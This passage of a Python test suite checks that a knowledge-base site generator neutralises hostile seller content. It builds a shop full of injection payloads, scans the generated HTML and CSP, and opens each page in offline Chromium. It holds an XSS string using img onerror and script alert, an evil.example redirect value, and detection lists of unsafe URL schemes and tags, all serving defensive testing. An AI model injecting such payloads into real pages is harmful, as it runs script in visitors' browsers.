    """The shop every payload is placed in is valid as it is: a rejection is the payload's doing."""
    source = small_shop().write(tmp_path)
    code, out, err = run_kbgen("validate", source)
    assert code == 0, out + err


def test_validate_answers_every_payload_with_problems_at_file_line_and_build_agrees(verdicts, tmp_path):
    """Each payload alone in a copy of the small shop: validate exits 0, or 1 with only FILE:LINE:COLUMN
    lines (FILE relative to the source: `faq/orders.yml`, `../docs/en/page.md`), never a traceback; a
    build of a rejected copy fails with exactly the same problems and writes nothing. (That every
    accepted placement builds is `test_every_accepted_placement_builds_together`.)"""
    failures = []
    for name, verdict in verdicts.items():
        files = set(verdict.tree.file_slots) | {"../docs/en", "../docs"}
        for file, _ in verdict.places:
            if file not in files and not file.startswith("../docs/"):
                verdict.broken.append(f"problem in a file the shop does not have: {file}")
        failures += [f"{name}: validate: {problem}" for problem in verdict.broken]
        if verdict.code != 1:
            continue
        out_dir = tmp_path / f"out-{name}"
        code, out, err = run_kbgen("build", "--source", verdict.source, "--out", out_dir)
        if code != 1 or "Traceback" in out + err:
            failures.append(f"{name}: validate exit 1 but build exit {code}:\n{out}{err}")
        elif out.splitlines() != verdict.out.splitlines():
            failures.append(f"{name}: build and validate report different problems:\n{verdict.out}---\n{out}")
        if out_dir.exists():
            failures.append(f"{name}: a rejected build wrote {out_dir}")
    assert not failures, "\n".join(failures)


def test_front_matter_that_could_script_or_crash_is_refused_at_its_line(verdicts):
    """Only documented keys, as strings: the JSON-LD key, a template, alternates, YAML tags, a list or a
    mapping as a title, a duplicate key and an alias bomb are refused at the key's line."""
    failures = []
    for name, line in REFUSED_FRONT_MATTER.items():
        verdict = verdicts[name]
        if verdict.code != 1 or ("../docs/en/page.md", line) not in verdict.places:
            failures.append(f"{name}: expected ../docs/en/page.md:{line}: ..., got exit {verdict.code}:\n{verdict.out}{verdict.err}")
    assert not failures, "\n".join(failures)


# --- the whole corpus in one shop ---------------------------------------------------------------------

DEFAULT_ADDRESSES = {channel: DEFAULTS[f"{channel} address"] for channel in CHANNELS}
PAYLOADS_BY_NAME = {p.name: p for p in MARKDOWN_PAYLOADS}


def corpus_shop(keep) -> dict[str, str]:
    """Every payload in every field, as files under a root (`kb/`, `docs/`); `keep(field, payload)` says
    whether a placement goes in (else a harmless text takes its place).

    Many records, so that a page holds many payloads and the sites stay small enough to open
    every page: an entry per payload (question, answer, keywords, agent note: three category
    pages), a contact per payload (label, hours) and per address payload, one warranty whose
    lists hold every payload, one procedure with a step per payload (title, do, say, branch),
    three hand-written pages with a section per payload. Fields with one value per page
    (warranty costs, a procedure's `when`...) get the `SINGLE_RECORD_PAYLOADS`, a record each;
    plain one-line titles hold the `TITLE_PAYLOADS` joined.
    """
    payloads = MARKDOWN_PAYLOADS
    singles = [PAYLOADS_BY_NAME[name] for name in SINGLE_RECORD_PAYLOADS]

    def pick(slot: str, payload: Payload, default: str) -> str:
        return payload.text if keep(slot, payload) else default

    def joined(slot: str, names: list[str], default: str) -> str:
        kept = [PAYLOADS_BY_NAME[name].text for name in names if keep(slot, PAYLOADS_BY_NAME[name])]
        return " ".join(kept) or default

    site = ["shop:", f"  name: {q(joined('shop name', TITLE_PAYLOADS, 'Hostile Shop'))}",
            f"  tagline: {q(joined('shop tagline', TITLE_PAYLOADS, 'Tagline'))}",
            f"languages: [{', '.join(LANGUAGES)}]"]
    site_urls = [p for channel, p in ADDRESS_PAYLOADS if channel == "site-url" and keep("site url", p)]
    if site_urls:
        site.append(f"url: {q(site_urls[0].text)}")
    site.append("categories:")
    for k in range(3):
        site += [f"  - id: topic-{k}",
                 f"    title: {q(joined('category title', TITLE_PAYLOADS[k::3], f'Topic {k}'))}",
                 f"    description: {q(joined('category description', TITLE_PAYLOADS[k::3], f'About topic {k}'))}"]
    site.append("contact:")
    for i, p in enumerate(payloads):
        channel = CHANNELS[i % len(CHANNELS)]
        site += [f"  - id: c-{i}", f"    channel: {channel}",
                 f"    label: {q(pick(channel + ' label', p, f'Channel {i}'))}",
                 f"    address: {q(DEFAULT_ADDRESSES[channel])}",
                 f"    hours: {q(pick(channel + ' hours', p, 'Daily'))}"]
    for j, (channel, p) in enumerate(ADDRESS_PAYLOADS):
        if channel == "site-url":
            continue
        site += [f"  - id: a-{j}", f"    channel: {channel}", f"    label: {q(f'Address {j}')}",
                 f"    address: {q(pick(channel + ' address', p, DEFAULT_ADDRESSES[channel]))}"]
    files = {"kb/site.yml": "\n".join(site) + "\n"}

    categories: dict[int, list[str]] = {0: [], 1: [], 2: []}
    for i, p in enumerate(payloads):
        categories[i % 3] += [
            f"  - id: e-{i}",
            f"    question: {q(pick('faq question', p, f'Question {i}?'))}",
            f"    answer: {q(pick('faq answer', p, f'Answer {i}.'))}",
            f"    keywords: [{q(pick('faq keyword', p, 'word'))}]",
            f"    agent_note: {q(pick('faq agent_note', p, 'Note.'))}",
            f"    related: [e-{(i + 1) % len(payloads)}]",
            "    warranty: lists",
        ]
    for k, lines in categories.items():
        files[f"kb/faq/topic-{k}.yml"] = "entries:\n" + "\n".join(lines) + "\n"

    def items(slot: str, default: str) -> str:
        kept = [q(p.text) for p in payloads if keep(slot, p)]
        return "\n".join(f"  - {item}" for item in kept or [q(default)])

    files["kb/warranty/lists.yml"] = (
        f"title: {q(joined('warranty title', TITLE_PAYLOADS, 'Lists'))}\n"
        f"applies_to: {q(joined('warranty applies_to', TITLE_PAYLOADS, 'Everything'))}\n"
        "duration_months: 12\nstarts_on: delivery\n"
        f"covers:\n{items('warranty covers', 'Defects')}\n"
        f"excludes:\n{items('warranty excludes', 'Wear')}\n"
        f"claim_steps:\n{items('warranty claim step', 'Write to us.')}\n"
        "costs: We pay.\n"
        "extensions:\n  - id: plus-12\n    extra_months: 12\n    price: {amount: 10, currency: USD}\n"
        "agent_note: Note.\n"
    )
    for j, p in enumerate(singles):
        files[f"kb/warranty/single-{j}.yml"] = (
            f"title: {q(pick('warranty title', p, f'Policy {j}'))}\n"
            f"applies_to: {q(pick('warranty applies_to', p, 'Kettles'))}\n"
            "duration_months: 6\nstarts_on: purchase\n"
            f"covers: [{q(pick('warranty covers', p, 'Defects'))}]\n"
            f"excludes: [{q(pick('warranty excludes', p, 'Wear'))}]\n"
            f"claim_steps: [{q(pick('warranty claim step', p, 'Write to us.'))}]\n"
            f"costs: {q(pick('warranty costs', p, 'We pay.'))}\n"
            f"agent_note: {q(pick('warranty agent_note', p, 'Note.'))}\n"
        )

    steps = []
    for i, p in enumerate(payloads):
        steps += [f"  - id: s-{i}",
                  f"    title: {q(pick('step title', p, f'Step {i}'))}",
                  f"    do: {q(pick('step do', p, 'Do it.'))}",
                  f"    say: {q(pick('step say', p, 'Hello {name}.'))}"]
        if i + 1 < len(payloads):
            steps += ["    branches:", f"      - if: {q(pick('branch if', p, 'If so'))}", f"        goto: s-{i + 1}"]
    files["kb/handbook/all-steps.yml"] = (
        f"title: {q(joined('procedure title', TITLE_PAYLOADS, 'All steps'))}\n"
        "when: Always.\nsteps:\n" + "\n".join(steps) + "\nescalate: Ask the lead.\n"
    )
    for j, p in enumerate(singles):
        files[f"kb/handbook/single-{j}.yml"] = (
            f"title: {q(pick('procedure title', p, f'Procedure {j}'))}\n"
            f"when: {q(pick('procedure when', p, 'When needed.'))}\n"
            "sla: {first_reply: 1h}\n"
            "steps:\n"
            f"  - id: first\n    title: {q(pick('step title', p, 'First'))}\n    do: {q(pick('step do', p, 'Do.'))}\n"
            f"    say: {q(pick('step say', p, 'Hi.'))}\n    faq: [e-0]\n"
            f"    branches:\n      - if: {q(pick('branch if', p, 'If'))}\n        goto: last\n"
            "  - id: last\n    title: Last\n    do: Done.\n"
            f"escalate: {q(pick('procedure escalate', p, 'Ask.'))}\n"
        )

    intro = [p for p in singles if keep("docs intro", p)]
    files["docs/en/intro.md"] = (intro[0].text if intro else "Welcome.") + "\n"
    files["docs/ru/intro.md"] = (intro[1].text if len(intro) > 1 else "Добро пожаловать.") + "\n"
    # Three pages hold the rest, a section (under a heading of its own) per payload: English pages
    # hold half of them, their Russian translations the other half.
    bodies = [p for p in payloads if keep("docs page body", p)]
    for language, half in (("en", bodies[0::2]), ("ru", bodies[1::2])):
        for k in range(3):
            sections = [f"## Part {i}\n\n{p.text}\n" for i, p in enumerate(half[k::3])]
            files[f"docs/{language}/m-{k}.md"] = "\n".join(sections) or "Text.\n"
    for j, p in enumerate(singles):  # no translation: the Russian page is the fallback
        title = pick("docs page title", p, f"Single {j}")
        description = pick("docs page description", p, "A page.")
        body = pick("docs page body", p, "Text.")
        files[f"docs/en/single-{j}.md"] = f"---\ntitle: {q(title)}\ndescription: {q(description)}\n---\n\n{body}\n"
    for j, p in enumerate(DOCS_FILE_PAYLOADS):
        if keep("docs file", p):
            files[f"docs/en/file-{j}.md"] = p.text
    return files


def keep_from(verdicts: dict[str, Verdict]):
    """A `keep` for `corpus_shop`: a placement goes in unless validation rejected the payload there."""

    def keep(slot: str, payload: Payload) -> bool:
        verdict = verdicts[payload.name]
        return slot not in verdict.rejected_slots and not verdict.broken

    return keep


def plant_outside_marker(root: Path) -> Path:
    """A file outside the project (beside its root) holding OUTSIDE_MARKER; the corpus points at it."""
    outside = root.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.md").write_text(f"# {OUTSIDE_MARKER}\n", encoding="utf-8")
    return outside


@dataclass
class BuiltCorpus:
    root: Path
    source: Path
    out: Path
    error: str | None  # why the build failed, if it did


def build_corpus(root: Path, keep) -> BuiltCorpus:
    from generator.build import BuildFailed, build_site
    from generator.problems import InvalidSource

    write_tree(root, {path: as_bytes(text) for path, text in corpus_shop(keep).items()})
    plant_outside_marker(root)
    out = root / "site"
    try:
        build_site(root / "kb", out, project_config=PROJECT / "mkdocs.yml")
    except InvalidSource as invalid:
        return BuiltCorpus(root, root / "kb", out, "\n".join(str(p) for p in invalid.problems))
    except BuildFailed as failed:
        return BuiltCorpus(root, root / "kb", out, str(failed))
    return BuiltCorpus(root, root / "kb", out, None)


@pytest.fixture(scope="module")
def accepted_corpus(tmp_path_factory, verdicts) -> BuiltCorpus:
    """Every placement validation accepts, in one shop, built with the input checks on."""
    return build_corpus(tmp_path_factory.mktemp("accepted") / "project", keep_from(verdicts))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, verdicts_unchecked) -> BuiltCorpus:
    """Every placement that only the Markdown input checks would stop, built with those checks off."""
    with markdown_checks_off():
        built = build_corpus(tmp_path_factory.mktemp("hostile") / "project", keep_from(verdicts_unchecked))
    assert built.error is None, f"the corpus did not build with the input checks off:\n{built.error}"
    return built


def test_the_corpus_build_really_has_the_input_checks_off(verdicts, verdicts_unchecked):
    """Without this, the build "with the checks off" could be the same as the one with them on: the
    payloads the Markdown checks reject must reach the renderer there."""
    let_through = sorted(
        name for name in verdicts
        if "faq answer" in verdicts[name].rejected_slots and "faq answer" not in verdicts_unchecked[name].rejected_slots
    )
    for name in ("fenced-script", "script", "img-onerror", "reference-javascript", "entity-tab", "autolink-javascript"):
        if "faq answer" in verdicts[name].rejected_slots:
            assert name in let_through, f"{name}: still stopped with the Markdown checks off"
    assert len(let_through) >= 10, let_through


def test_every_accepted_placement_builds_together(accepted_corpus):
    """The other half of "validate and build agree": what validate accepts, build accepts (and
    validate accepts the combined shop too)."""
    assert accepted_corpus.error is None, accepted_corpus.error
    code, out, err = run_kbgen("validate", accepted_corpus.source)
    assert code == 0, out + err


# --- 3. what a page may hold: the same rules read from the files and from the live DOM ------------------

# Attributes that hold a URL a browser follows, loads or runs.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcdoc", "xlink:href", "data", "poster", "background",
                  "cite", "ping", "codebase", "lowsrc", "dynsrc", "manifest", "longdesc", "usemap"}
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:")
# The one data: URL kbgen writes itself: the empty favicon of the widget's pages.
KBGEN_DATA_URLS = {("link", "href", "data:,")}
# Elements no seller text may produce (scripts are judged by their content, forms by whose they are).
FORBIDDEN_TAGS = {"base", "iframe", "frame", "frameset", "object", "embed", "applet", "math", "foreignobject",
                  "animate", "set", "animatemotion", "animatetransform", "handler", "listener", "noscript", "xmp",
                  "plaintext", "listing", "noembed", "noframes", "template", "portal", "isindex", "keygen", "textarea"}
# The forms kbgen and Material write: the warranty checker, the search box, the palette switch.
# (and the widget's own box, made by its script)
KBGEN_FORM_CLASSES = {"kb-checker__form", "kb-search__form", "md-header__option", "kbw-form"}
# Hosts of the links in the payloads: such a link must not leak the page (rel noopener noreferrer).
PAYLOAD_LINK_HOSTS = {"a.example", "evil.example"}
EXECUTABLE_SCRIPT_TYPES = {"", "text/javascript", "application/javascript", "module", "text/ecmascript"}
JS_STRING = re.compile(r""""(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'""")


def squeeze_url(value: str) -> str:
    """An attribute's URL (character references already decoded by the parser), read for its scheme
    more suspiciously than a browser does: every control character and blank gone, lowercase."""
    return re.sub(r"[\x00-\x20\x7f]", "", value).lower()


def unsafe_url(tag: str, attribute: str, value: str) -> bool:
    if attribute == "srcdoc":
        return True
    squeezed = squeeze_url(value)
    return squeezed.startswith(UNSAFE_SCHEMES) and (tag, attribute, squeezed) not in KBGEN_DATA_URLS


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    line: int
    text: str = ""  # a script's or style's content


class _Collector(html.parser.HTMLParser):
    """Every element of a page with its attributes, and the text of its scripts and styles."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self._raw: Element | None = None

    def handle_starttag(self, tag, attrs):
        element = Element(tag, {name: value or "" for name, value in attrs}, self.getpos()[0])
        self.elements.append(element)
        if tag in ("script", "style"):
            self._raw = element

    def handle_startendtag(self, tag, attrs):
        self.elements.append(Element(tag, {name: value or "" for name, value in attrs}, self.getpos()[0]))

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._raw = None

    def handle_data(self, data):
        if self._raw is not None:
            self._raw.text += data


def parse_elements(text: str) -> list[Element]:
    collector = _Collector()
    collector.feed(text)
    collector.close()
    return collector.elements


def element_problems(elements: list[Element]) -> list[str]:
    """Everything on a page that a seller's text could have made unsafe."""
    found = []
    for element in elements:
        tag, attrs = element.tag, element.attrs
        where = f"line {element.line} <{tag}>"
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{where}: event handler {name}={value[:60]!r}")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                if unsafe_url(tag, name, value):
                    found.append(f"{where}: {name}={value[:60]!r}")
            if name == "style" and re.search(r"url\(|expression|javascript|@import", value, re.I):
                found.append(f"{where}: style={value[:60]!r}")
        if tag in FORBIDDEN_TAGS:
            found.append(f"{where}: a <{tag}> element")
        if tag == "meta" and attrs.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            found.append(f"{where}: meta http-equiv={attrs['http-equiv']!r}")
        if tag == "form" and attrs.get("class") not in KBGEN_FORM_CLASSES:
            found.append(f"{where}: a form kbgen did not write ({attrs})")
        if tag in ("form", "button", "input") and urlsplit(squeeze_url(attrs.get("action", "") + attrs.get("formaction", ""))).netloc:
            found.append(f"{where}: a form that submits to another host")
        if tag == "script":
            kind = attrs.get("type", "").lower()
            if "src" in attrs and (urlsplit(attrs["src"]).netloc or urlsplit(attrs["src"]).scheme):
                found.append(f"{where}: a script from another host: {attrs['src']!r}")
            if kind in EXECUTABLE_SCRIPT_TYPES and "src" not in attrs:
                # Seller text may sit in a script as a JSON string (the widget demo's shop name); a
                # marker outside the string literals means it got out of one.
                code = JS_STRING.sub('""', element.text).lower()
                for marker in SCRIPT_MARKERS:
                    if marker in code:
                        found.append(f"{where}: an inline script runs {marker!r}: {element.text[:80]!r}")
                # The HTML tokenizer knows no JS strings: after a `<!--` in a script, a `<script` makes
                # the next `</script>` part of the script (the demo page stopped working that way).
                if "<!--" in element.text:
                    found.append(f"{where}: an inline script holds '<!--': {element.text[:80]!r}")
            elif kind in ("application/json", "application/ld+json"):
                try:
                    json.loads(element.text)
                except ValueError:
                    found.append(f"{where}: {kind} that is not one JSON value (broken out of?): {element.text[:80]!r}")
            elif kind not in EXECUTABLE_SCRIPT_TYPES:
                found.append(f"{where}: a script of type {kind!r}")
        if tag == "style" and re.search(r"@import|javascript|expression|evil\.example|__pwned", element.text, re.I):
            found.append(f"{where}: a style element holds {element.text[:80]!r}")
        if tag == "link" and attrs.get("rel", "").lower() in ("stylesheet", "import", "preload", "modulepreload", "prefetch", "prerender"):
            if urlsplit(attrs.get("href", "")).netloc:
                found.append(f"{where}: a {attrs['rel']} from another host: {attrs['href']!r}")
    return found


def leaky_links(elements: list[Element]) -> list[str]:
    """Links from sellers' text to other hosts that would tell them which page linked (or let them
    reach back into it): each needs rel="noopener noreferrer"."""
    return [
        f"line {element.line}: {element.attrs}"
        for element in elements
        if element.tag == "a"
        and (urlsplit(squeeze_url(element.attrs.get("href", ""))).hostname or "") in PAYLOAD_LINK_HOSTS
        and not {"noopener", "noreferrer"} <= set(element.attrs.get("rel", "").split())
    ]


def html_files(out: Path) -> list[Path]:
    return sorted(path for site in ("public", "handbook") for path in (out / site).rglob("*.html"))


def static_problems(out: Path) -> list[str]:
    found = []
    for path in html_files(out):
        text = path.read_text(encoding="utf-8")
        relative = path.relative_to(out).as_posix()
        found += [f"{relative}: {problem}" for problem in element_problems(parse_elements(text))]
    return found


def test_the_built_files_hold_nothing_that_runs_with_the_input_checks_off(hostile_site):
    """Every HTML file of both sites, read as markup: no event handler, no unsafe URL, no <base>,
    no foreign frame, object or form, no payload inside an executable script, JSON scripts
    that are exactly one JSON value."""
    problems = static_problems(hostile_site.out)
    assert not problems, f"{len(problems)} problem(s):\n" + "\n".join(problems[:80])


def test_the_built_files_hold_nothing_that_runs_with_the_input_checks_on(accepted_corpus):
    assert accepted_corpus.error is None, accepted_corpus.error
    problems = static_problems(accepted_corpus.out)
    assert not problems, f"{len(problems)} problem(s):\n" + "\n".join(problems[:80])


def test_links_from_sellers_text_to_other_hosts_carry_noopener_noreferrer(hostile_site):
    """`[x](https://a.example/)` and `[x](//evil.example/)` alike: a protocol-relative link goes to
    another host too."""
    leaks = []
    for path in html_files(hostile_site.out):
        relative = path.relative_to(hostile_site.out).as_posix()
        leaks += [f"{relative}: {leak}" for leak in leaky_links(parse_elements(path.read_text(encoding="utf-8")))]
    assert not leaks, f"{len(leaks)} link(s):\n" + "\n".join(leaks[:40])


def test_the_search_indexes_are_json(hostile_site):
    """A payload that broke out of the JSON of a search index (a script handing its JSON over, `search/<lang>/*.js`,
    on both sites) would break (or script) the search: each is exactly one event carrying one JSON value."""
    broken = []
    data_scripts = sorted([*hostile_site.out.glob("*/search/*/meta.js"), *hostile_site.out.glob("*/search/*/*/*.js")])
    assert data_scripts
    for path in [*sorted(hostile_site.out.rglob("*.json")), *data_scripts]:
        try:
            if path.suffix == ".json":
                json.loads(path.read_text(encoding="utf-8"))
            else:
                search_data(path)
        except (ValueError, AssertionError) as error:
            broken.append(f"{path.relative_to(hostile_site.out)}: {error}")
    assert not broken, "\n".join(broken)


def test_nothing_from_outside_the_project_is_published(hostile_site):
    """The corpus links and points at a file outside the project (`outside-paths`): its text is in no built file."""
    assert (hostile_site.root.parent / "outside" / "secret.md").is_file()
    leaked = [path for path in hostile_site.out.rglob("*") if path.is_file() and OUTSIDE_MARKER.encode() in path.read_bytes()]
    assert not leaked, leaked


# --- the Content-Security-Policy --------------------------------------------------------------------------


def csp_of(elements: list[Element]) -> dict[str, list[str]] | None:
    for element in elements:
        if element.tag == "meta" and element.attrs.get("http-equiv", "").lower() == "content-security-policy":
            policy = {}
            for directive in element.attrs.get("content", "").split(";"):
                words = directive.split()
                if words:
                    policy[words[0].lower()] = words[1:]
            return policy
    return None


def test_every_page_carries_a_content_security_policy_that_allows_only_kbgen_scripts(hostile_site):
    """Defence in depth: a meta CSP before any script, whose script-src is 'self' and hashes only
    (no 'unsafe-inline', no 'unsafe-eval', no other host), no objects, no other base URL; and
    kbgen's and Material's own inline scripts match its hashes (the pages still work)."""
    problems = []
    files = html_files(hostile_site.out)
    assert len(files) > 60
    for path in files:
        relative = path.relative_to(hostile_site.out).as_posix()
        elements = parse_elements(path.read_text(encoding="utf-8"))
        policy = csp_of(elements)
        if policy is None:
            problems.append(f"{relative}: no Content-Security-Policy meta tag")
            continue
        first_csp = next(i for i, e in enumerate(elements) if e.tag == "meta" and e.attrs.get("http-equiv", "").lower() == "content-security-policy")
        first_script = next((i for i, e in enumerate(elements) if e.tag == "script"), len(elements))
        if first_script < first_csp:
            problems.append(f"{relative}: a script comes before the policy, which does not cover it")
        script_src = policy.get("script-src", policy.get("default-src"))
        if script_src is None:
            problems.append(f"{relative}: no script-src (nor default-src)")
            continue
        hashes = set()
        for source in script_src:
            if source == "'self'":
                continue
            match = re.fullmatch(r"'sha(256|384|512)-([A-Za-z0-9+/=]+)'", source)
            if match:
                hashes.add((match.group(1), match.group(2)))
            else:
                problems.append(f"{relative}: script-src allows {source}")
        if policy.get("object-src") != ["'none'"]:
            problems.append(f"{relative}: object-src is {policy.get('object-src')}, not 'none'")
        if policy.get("base-uri") not in (["'none'"], ["'self'"]):
            problems.append(f"{relative}: base-uri is {policy.get('base-uri')}, not 'self' or 'none'")
        for element in elements:
            kind = element.attrs.get("type", "").lower()
            if element.tag == "script" and "src" not in element.attrs and kind in EXECUTABLE_SCRIPT_TYPES:
                digests = {bits: base64.b64encode(hashlib.new(f"sha{bits}", element.text.encode("utf-8")).digest()).decode()
                           for bits in ("256", "384", "512")}
                if not any(digests[bits] == value for bits, value in hashes):
                    problems.append(f"{relative}: line {element.line}: an inline script the policy blocks: {element.text[:60]!r}")
    assert not problems, f"{len(problems)} problem(s):\n" + "\n".join(problems[:60])


# --- the same rules in Chromium, page by page --------------------------------------------------------------

DOM_PROBLEMS_JS = """
([urlAttributes, forbidden, formClasses, markers]) => {
  const found = [];
  const squeeze = value => value.replace(/[\\u0000-\\u0020\\u007f]/g, "").toLowerCase();
  const elements = [];
  const walk = root => {
    for (const element of root.querySelectorAll("*")) {
      elements.push(element);
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  for (const element of elements) {
    const tag = element.localName.toLowerCase();
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value;
      if (name.startsWith("on")) found.push(`<${tag}> ${name}=${value.slice(0, 60)}`);
      if (urlAttributes.includes(name) || name.endsWith(":href")) {
        const url = squeeze(value);
        const kbgens = tag === "link" && name === "href" && url === "data:,";
        if (name === "srcdoc" || (/^(javascript|vbscript|data):/.test(url) && !kbgens)) {
          found.push(`<${tag}> ${name}=${value.slice(0, 60)}`);
        }
      }
      if (name === "style" && /url\\(|expression|javascript|@import/i.test(value)) found.push(`<${tag}> style=${value.slice(0, 60)}`);
    }
    const ownFrame = tag === "iframe" && /\\/widget\\/frame\\.html(\\?|$)/.test(element.getAttribute("src") || "");
    if (forbidden.includes(tag) && !ownFrame) found.push(`a <${tag}> element`);
    if (tag === "form" && !formClasses.includes(element.getAttribute("class"))) found.push(`a form kbgen did not write: ${element.outerHTML.slice(0, 80)}`);
    if (tag === "meta" && !["", "content-security-policy"].includes((element.httpEquiv || "").toLowerCase())) found.push(`meta http-equiv=${element.httpEquiv}`);
    if (tag === "script" && !element.src && (!element.type || /javascript|module|ecmascript/i.test(element.type))) {
      const text = element.textContent.replace(/"(?:[^"\\\\\\n]|\\\\.)*"|'(?:[^'\\\\\\n]|\\\\.)*'/g, '""').toLowerCase();
      for (const marker of markers) if (text.includes(marker)) found.push(`an inline script holds ${marker}: ${text.slice(0, 60)}`);
    }
  }
  return {pwned: window.__pwned === undefined ? null : String(window.__pwned), found};
}
"""
CSP_VIOLATION = re.compile(r"Refused to (execute|load the script|run the JavaScript URL|evaluate|frame|load plugin)", re.I)


class Watch:
    """One browser page watched for what a payload would do: dialogs, script refused by the policy,
    requests to other hosts (images excepted: a seller's Markdown may show one), navigation away."""

    def __init__(self, page):
        self.page = page
        self.dialogs: list[str] = []
        self.violations: list[str] = []
        self.foreign: list[str] = []
        page.on("dialog", self._dialog)
        page.on("console", lambda message: CSP_VIOLATION.search(message.text) and self.violations.append(f"{page.url}: {message.text}"))
        page.on("pageerror", lambda error: None)
        page.on("request", self._request)  # recorded; the browser resolves no other host (`offline_page`)

    def _dialog(self, dialog) -> None:
        self.dialogs.append(f"{self.page.url}: {dialog.type} {dialog.message!r}")
        dialog.dismiss()

    def _request(self, request) -> None:
        host = urlsplit(request.url).hostname
        if request.url.startswith(("http:", "https:")) and host != "127.0.0.1" and request.resource_type != "image":
            self.foreign.append(f"{self.page.url}: {request.resource_type} {request.url}")

    def dom_problems(self) -> list[str]:
        result = self.page.evaluate(
            DOM_PROBLEMS_JS,
            [sorted(URL_ATTRIBUTES), sorted(FORBIDDEN_TAGS), sorted(KBGEN_FORM_CLASSES), [m.lower() for m in SCRIPT_MARKERS]],
        )
        found = [f"{self.page.url}: {problem}" for problem in result["found"]]
        if result["pwned"] is not None:
            found.append(f"{self.page.url}: window.__pwned = {result['pwned']}")
        return found

    def open(self, url: str) -> list[str]:
        """Open `url`, let the page settle, and report what a payload did on it."""
        self.page.goto(url, wait_until="load")
        self.page.wait_for_timeout(30)  # autofocus, ontoggle, meta refresh: a task or two after load
        problems = self.dom_problems()
        if self.page.url.split("#")[0] != url.split("#")[0]:
            problems.append(f"{url}: the page went elsewhere: {self.page.url}")
        return problems

    def verdict(self, problems: list[str]) -> list[str]:
        return problems + [f"dialog: {d}" for d in self.dialogs] + [f"script refused by the policy: {v}" for v in self.violations] + [
            f"request to another host: {f}" for f in self.foreign]


@pytest.fixture
def offline_page(browser):
    """A page whose browser reaches no host but 127.0.0.1: whatever a payload asks from elsewhere fails at
    once. (The session's one Chromium: a second Playwright in the same worker cannot run beside it.)"""
    context = browser.new_context()

    def only_this_machine(route):
        if urlsplit(route.request.url).hostname in ("127.0.0.1", None):
            route.continue_()
        else:
            route.abort("namenotresolved")

    context.route("**/*", only_this_machine)
    yield context.new_page()
    context.close()


def site_urls(folder: Path, base: str) -> list[str]:
    return [base + path.relative_to(folder).as_posix() for path in sorted(folder.rglob("*.html"))]


def test_no_payload_runs_on_any_page_of_either_site(hostile_site, offline_page, serve_folder):
    """Every page of OUT/public and OUT/handbook, opened in Chromium: nothing ran (no dialog, no
    `window.__pwned`), and nothing in the DOM could run later (no on* attribute, no unsafe URL, no
    <base>, no foreign frame, object, embed or form)."""
    watch = Watch(offline_page)
    problems: list[str] = []
    opened = 0
    for site in ("public", "handbook"):
        folder = hostile_site.out / site
        base = serve_folder(folder)
        for url in site_urls(folder, base):
            if "/widget/" in url:
                continue  # opened with a query string below
            problems += watch.open(url)
            opened += 1
    assert opened > 50
    problems = watch.verdict(problems)
    assert not problems, f"{len(problems)} problem(s) on {opened} pages:\n" + "\n".join(problems[:80])


REFLECTED = '"><img src=x onerror=alert(1)><script>alert(1)</script>'


def test_query_strings_and_fragments_in_a_link_run_nothing(hostile_site, offline_page, serve_folder):
    """A link someone sends a buyer may carry anything in `?lang=`, `?q=` or `#`: the pages that read
    their URL (the widget's demo and frame, the search box, Material's anchors) run none of it and
    load nothing from elsewhere."""
    from urllib.parse import quote

    public = serve_folder(hostile_site.out / "public")
    watch = Watch(offline_page)
    problems = []
    for path in ("widget/demo.html", "widget/frame.html", ""):
        for query in (f"?lang={quote(REFLECTED)}", f"?lang={quote('//evil.example/x#')}", f"?lang=en&q={quote(REFLECTED)}",
                      "#" + quote(REFLECTED)):
            problems += watch.open(public + path + query)
    problems = [p for p in watch.verdict(problems) if "the page went elsewhere" not in p]
    assert not problems, "\n".join(problems[:40])


def widget_query(frame, query: str) -> int:
    """Type `query` into a widget's box, wait for its results, open each answer; how many opened."""
    box = frame.locator(".kbw input[type=search]").first
    box.click()
    box.fill(query)
    box.press("Shift")
    frame.wait_for_function(
        "q => { const r = document.querySelector('.kbw [data-kb-results]'); return r && r.getAttribute('data-kb-query') === q; }",
        arg=query,
    )
    links = frame.locator("[data-kb-results] a.kbw-result__link")
    count = min(links.count(), 10)
    for index in range(count):
        links.nth(index).click()
        frame.locator(".kbw-answer").nth(index).wait_for(state="attached")
    return count


def test_the_search_boxes_and_the_widget_show_payloads_as_text(hostile_site, offline_page, serve_folder):
    """Results carry the payloads' questions, and the widget shows their answers on the shop's page:
    the buyers' search box, the handbook's, the widget demo and its frame, in both languages."""
    from conftest import search_with_box

    page = offline_page
    watch = Watch(page)
    problems: list[str] = []
    public, handbook = serve_folder(hostile_site.out / "public"), serve_folder(hostile_site.out / "handbook")
    for url in (public, public + "ru/", handbook):
        page.goto(url, wait_until="load")
        found = search_with_box(page, "script img")
        assert found, f"the search box at {url} found nothing"
        page.wait_for_timeout(30)
        problems += watch.dom_problems()
    for url in (public + "widget/demo.html?lang=en", public + "widget/demo.html?lang=ru", public + "widget/frame.html?lang=en"):
        page.goto(url, wait_until="load")
        opened = widget_query(page, "script img")
        assert opened, f"the widget at {url} found nothing"
        page.wait_for_timeout(50)
        problems += watch.dom_problems()
    problems = watch.verdict(problems)
    assert not problems, f"{len(problems)} problem(s):\n" + "\n".join(problems[:80])


# --- 4. docs/ stays inside the project ---------------------------------------------------------------------


def symlink_project(root: Path, case: str) -> tuple[Path, str]:
    """The small shop with one link in docs/ (or its `.git/config` target, or outside files);
    returns the source folder and the FILE where the link is (as kbgen prints it)."""
    project = root / "project"
    source = small_shop().write(project)
    outside = plant_outside_marker(project)
    (outside / "lang").mkdir(exist_ok=True)
    (outside / "lang" / "notes.md").write_text(f"{OUTSIDE_MARKER}\n", encoding="utf-8")
    write_tree(outside / "docs", {"en/intro.md": f"{OUTSIDE_MARKER}\n"})
